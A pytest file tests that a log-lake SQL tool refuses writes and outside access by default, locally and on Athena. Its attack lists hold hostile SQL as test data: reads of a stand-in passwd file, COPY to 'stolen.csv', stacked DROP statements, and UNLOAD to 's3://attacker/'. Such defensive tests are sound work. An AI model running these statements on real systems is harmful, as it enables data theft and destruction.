"""`loglake sql` is read-only over the lake by default, locally and on Athena; `--unsafe-allow-writes` opts out."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from loglake.athena import Athena, Target
from loglake.cli import main
from loglake.engine import LocalEngine, QueryError
from tests.loglake.athena_stubs import expect_run, results_page, stubbed_client
from tests.support import awslogs_event, load_payload

SECRET = "not-for-sql-eyes"


@pytest.fixture
def lake(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    events = tmp_path / "events.json"
    events.write_text(json.dumps(awslogs_event(load_payload("awslogs_python_text.json"))))
    root = tmp_path / "lake"
    assert main(["ingest", "--lake", str(root), str(events)]) == 0
    capsys.readouterr()
    return root


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A file next to the lake, not in it: `/etc/passwd` for the test's purpose."""
    secret = tmp_path / "passwd.csv"
    secret.write_text(f"user,password\nroot,{SECRET}\n")
    return secret


def sql(lake: Path, query: str, *flags: str) -> int:
    return main(["sql", "--lake", str(lake), "--format", "json", *flags, query])


def attacks(outside: Path, tmp_path: Path) -> list[str]:
    return [
        f"SELECT * FROM read_csv('{outside}')",
        f"SELECT * FROM read_csv_auto('{outside}')",
        f"SELECT * FROM read_text('{outside}')",
        f"SELECT * FROM glob('{tmp_path}/*')",
        f"COPY (SELECT * FROM events) TO '{tmp_path}/stolen.csv'",
        "CREATE TABLE copy_of_events AS SELECT * FROM events",
        "INSERT INTO events_commits SELECT * FROM events_commits",
        "DROP VIEW events",
        f"ATTACH '{tmp_path}/other.duckdb'",
        "INSTALL httpfs",
        "LOAD httpfs",
        "PRAGMA enable_profiling",
        "SET enable_external_access = true",
        "SELECT 1; DROP VIEW events",
    ]


def test_statements_reaching_outside_the_lake_are_refused_with_a_clear_error(
    lake: Path, outside: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for query in attacks(outside, tmp_path):
        # When a hostile statement is run, Then it fails clearly and nothing leaks or is written
        assert sql(lake, query) == 1, query
        captured = capsys.readouterr()
        assert SECRET not in captured.out + captured.err, query
        assert captured.err.startswith("loglake sql: "), query
        assert "Traceback" not in captured.err, query
    assert not (tmp_path / "stolen.csv").exists() and not (tmp_path / "other.duckdb").exists()
    # And the lake still answers queries, its views intact
    assert sql(lake, "SELECT count(*) AS n FROM lambda_invocations") == 0
    assert json.loads(capsys.readouterr().out) == [{"n": 2}]


def test_refusals_name_the_statement_and_the_opt_in_flag(lake: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert sql(lake, "CREATE TABLE t AS SELECT 1 AS x") == 1
    err = capsys.readouterr().err
    assert "read-only" in err and "CREATE" in err and "--unsafe-allow-writes" in err


def test_even_a_select_cannot_read_files_outside_the_lake(lake: Path, outside: Path) -> None:
    engine = LocalEngine(lake)
    with pytest.raises(QueryError, match=r"Permission|disabled"):
        engine.query(f"SELECT * FROM read_csv('{outside}')")
    with pytest.raises(QueryError, match=r"Permission|disabled"):
        engine.query(f"SELECT * FROM read_csv('{lake}/../{outside.name}')")


@pytest.mark.parametrize(
    "query",
    [
        "WITH hot AS (SELECT function_name FROM events) SELECT count(*) AS n FROM hot",
        "SELECT 1 AS n UNION ALL SELECT 2",
        "VALUES (1, 'a')",
        "(SELECT count(*) AS n FROM events)",
    ],
)
def test_every_kind_of_query_still_runs(lake: Path, query: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert sql(lake, query) == 0
    assert json.loads(capsys.readouterr().out)


def test_the_opt_in_flag_runs_other_statements(
    lake: Path, outside: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert sql(lake, f"SELECT * FROM read_csv('{outside}')", "--unsafe-allow-writes") == 0
    assert SECRET in capsys.readouterr().out
    target = tmp_path / "export.csv"
    assert sql(lake, f"COPY (SELECT event_id FROM events) TO '{target}'", "--unsafe-allow-writes") == 0
    assert len(target.read_text().splitlines()) == 1 + len(load_payload("awslogs_python_text.json")["logEvents"])


def test_internal_commands_still_run_their_queries(lake: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    assert main(["report", "--lake", str(lake), "--out", str(out)]) == 0
    assert out.stat().st_size > 0
    assert main(["ask", "--lake", str(lake), "cold_starts"]) == 0


@pytest.mark.parametrize(
    "query",
    [
        "UNLOAD (SELECT * FROM events) TO 's3://attacker/' WITH (format = 'PARQUET')",
        "CREATE TABLE stolen WITH (external_location = 's3://attacker/') AS SELECT * FROM events",
        "INSERT INTO events_objects SELECT * FROM events_objects",
        "DROP TABLE events_objects",
        "ALTER TABLE events_objects SET TBLPROPERTIES ('x' = 'y')",
        "MSCK REPAIR TABLE events_objects",
        "CREATE OR REPLACE VIEW events AS SELECT 1 AS x",
    ],
)
def test_athena_refuses_statements_other_than_queries_before_sending_them(query: str) -> None:
    # Given Athena that expects no call at all (the Stubber fails on any)
    client, stub = stubbed_client()
    athena = Athena(client, Target("logs"), sleep=lambda _: None, progress=io.StringIO())
    # When the statement is run, Then it is refused before reaching Athena
    with stub, pytest.raises(QueryError, match="read-only"):
        athena.query(query)


def test_athena_with_the_opt_in_runs_what_it_is_given() -> None:
    client, stub = stubbed_client()
    query = "DROP TABLE scratch"
    expect_run(stub, query, "q-9", states=("SUCCEEDED",))
    stub.add_response(
        "get_query_results",
        results_page([], [], header=False, token=None),
        {"QueryExecutionId": "q-9", "MaxResults": 1000},
    )
    athena = Athena(client, Target("logs"), sleep=lambda _: None, progress=io.StringIO(), allow_writes=True)
    with stub:
        athena.query(query)
        stub.assert_no_pending_responses()
